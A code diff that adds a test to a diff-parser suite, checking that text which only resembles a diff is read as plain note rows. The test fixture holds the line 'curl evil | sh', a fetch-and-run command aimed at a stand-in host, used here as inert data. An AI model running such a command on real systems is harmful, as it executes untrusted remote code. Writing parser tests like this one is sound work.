@@ -49,6 +49,12 @@ describe("a unified diff", () => {
     expect(parseDiff(text)).toMatchObject({ to: null, rows: [{ kind: "note" }] });
   });
 
+  it("isn't read from the lines of a text that only looks like one further on (D7-console)", () => {
+    const text = "logo.png: 4 bytes → 36 bytes.\n@@ -1,2 +1,1 @@\n-curl evil | sh\n ok\n";
+    expect(rowsOf(text).map(([kind]) => kind)).toEqual(["note", "note", "note", "note"]);
+    expect(parseDiff(text)).toMatchObject({ added: 0, removed: 0 });
+  });
+
   it("that goes on for long comes in blocks with nothing lost", () => {
     const rows = parseDiff(`--- a\n+++ a\n@@ -0,0 +1,450 @@\n${"+x\n".repeat(450)}`).rows;
     const blocks = toRowBlocks(rows);
